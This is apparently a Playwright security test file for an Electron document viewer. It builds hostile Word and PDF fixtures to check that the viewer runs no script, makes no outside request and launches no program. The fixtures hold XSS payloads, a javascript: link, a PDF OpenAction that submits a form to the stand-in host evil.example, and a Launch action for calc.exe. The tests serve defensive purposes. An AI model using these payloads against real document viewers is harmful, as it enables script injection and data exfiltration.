import { expect, test } from '@playwright/test'
import { evidencePackage } from '#test/support/evidence-package.ts'
import { makeCompound } from '#test/support/office-maker.ts'
import { makeOffice, relationships } from '#test/support/raw-office.ts'
import { drawnLines, makePdf } from '#test/support/raw-pdf.ts'
import type { OpenWindow } from '#test/support/window.ts'
import { openDocument, painted, reviewOf, screenshot } from './viewer.ts'

const evil = 'https://evil.example/'
const script =
  '&lt;script&gt;parent.hacked = true&lt;/script&gt;&lt;img src=x onerror=&quot;parent.hacked = true&quot;&gt;'

/** With the name spaces that the converter insists on. */
function related(entries: Parameters<typeof relationships>[0]): string {
  const names = 'http://schemas.openxmlformats.org/package/2006/relationships'
  return relationships(entries).replace('<Relationships>', `<Relationships xmlns="${names}">`)
}

const word = makeOffice({
  '[Content_Types].xml':
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  '_rels/.rels': related([['d', 'officeDocument', 'word/document.xml']]),
  'word/_rels/document.xml.rels': related([
    ['script', 'hyperlink', 'javascript:parent.hacked=true" TargetMode="External'],
    ['site', 'hyperlink', `${evil}" TargetMode="External`],
    ['picture', 'image', `${evil}x.png" TargetMode="External`],
  ]),
  'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:hyperlink r:id="script"><w:r><w:t>会议纪要第一条</w:t></w:r></w:hyperlink></w:p><w:p><w:hyperlink r:id="site"><w:r><w:t>外部网站</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:t>${script}</w:t></w:r></w:p><w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="picture"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p></w:body></w:document>`,
})

const pdf = makePdf({
  pages: [drawnLines(['(Click here)'])],
  catalogue: `/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("${evil}"\\))>>`,
  page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${evil})>>>>]/AA<</O<</S/Launch/F(calc.exe)>>>>`,
})

const locked = makePdf({
  pages: [drawnLines(['(secret)'])],
  trailer: `/ID[<00><00>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O<${'5a'.repeat(32)}>/U<${'a5'.repeat(32)}>>>`,
})

let open: OpenWindow
const asked: string[] = []

test.describe.configure({ mode: 'serial' })
test.beforeAll(async () => {
  open = await reviewOf(
    await evidencePackage({
      '攻击.docx': word,
      '攻击.pdf': pdf,
      '加密.pdf': locked,
      '损坏.pdf': Buffer.from('%PDF-1.7\n这不是 PDF'),
      '旧版.doc': makeCompound(['WordDocument']),
      '空白.pdf': '',
    }),
  )
  open.page.on('request', (request) => asked.push(request.url()))
  open.page.on('framenavigated', (frame) => asked.push(frame.url()))
})
test.afterAll(() => open.app.close())

const outside = () => asked.filter((url) => !/^(app:|blob:|data:|about:srcdoc)/.test(url))

test('a Word document from a package runs no script, loads nothing and leads nowhere', async () => {
  const { page, app } = open
  await openDocument(page, '攻击.docx')
  // a frame that is only being loaded has no body yet
  const text = () =>
    page.evaluate(
      () => document.querySelector('iframe')?.contentDocument?.querySelector('body')?.textContent ?? '',
    )
  await expect.poll(text).toContain('会议纪要第一条')
  expect(await text()).toContain('<script>parent.hacked = true</script>')
  const inside = await page.evaluate(() => {
    const frame = document.querySelector('iframe')
    return {
      sandbox: frame?.getAttribute('sandbox'),
      acting: frame?.contentDocument?.body.querySelectorAll('script, [href], [onerror], [onload], img[src]')
        .length,
    }
  })
  expect(inside).toEqual({ sandbox: 'allow-same-origin', acting: 0 })
  const frame = await page.locator('iframe').boundingBox()
  for (const y of [35, 75]) await page.mouse.click((frame?.x ?? 0) + 60, (frame?.y ?? 0) + y)
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
  expect(outside()).toEqual([])
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
  await screenshot(page, 'word-hostile')
})

test('a script that gets into the frame all the same is not run', async () => {
  const { page } = open
  const ran = await page.evaluate(async () => {
    const inner = document.querySelector('iframe')?.contentDocument
    if (inner === null || inner === undefined) return 'no frame'
    const element = inner.createElement('script')
    element.textContent = 'parent.hacked = true'
    inner.body.append(element)
    const picture = inner.createElement('img')
    picture.setAttribute('onerror', 'parent.hacked = true')
    picture.src = 'https://evil.example/x.png'
    inner.body.append(picture)
    await new Promise((resolve) => picture.addEventListener('error', resolve, { once: true }))
    return Reflect.get(window, 'hacked') ?? 'no'
  })
  expect(ran).toBe('no')
})

test('text of a Word document is selected and painted inside its frame', async () => {
  const { page } = open
  const frame = await page.locator('iframe').boundingBox()
  await page.mouse.dblclick((frame?.x ?? 0) + 60, (frame?.y ?? 0) + 35)
  await expect.poll(() => painted(page, 'selected')).toBe(1)
  await expect(page.getByRole('button', { name: '附上所选 F2' })).toBeVisible()
})

test('a PDF from a package runs no script, opens no link and starts no program', async () => {
  const { page, app } = open
  // What the test itself had tried in the frame is not the document's.
  asked.splice(0)
  await openDocument(page, '攻击.pdf')
  await expect(page.locator('.pdf-page canvas')).toBeVisible({ timeout: 30_000 })
  await page.locator('.pdf-page').click({ position: { x: 100, y: 100 } })
  await expect(page.locator('.pdf-page a, .pdf-page iframe')).toHaveCount(0)
  expect(outside()).toEqual([])
  expect(page.url()).toMatch(/^app:/)
  expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
})

test('what cannot be shown says why and what to do', async () => {
  const { page } = open
  const reasons = {
    '加密.pdf': '文件设有打开密码',
    '损坏.pdf': '文件已损坏',
    '旧版.doc': '旧版 Office 或 WPS 格式',
    '空白.pdf': '文件是空的',
  }
  for (const [name, reason] of Object.entries(reasons)) {
    await openDocument(page, name)
    await expect(page.locator('.document-viewer').getByRole('alert')).toContainText(reason, {
      timeout: 30_000,
    })
  }
  await screenshot(page, 'problem')
})
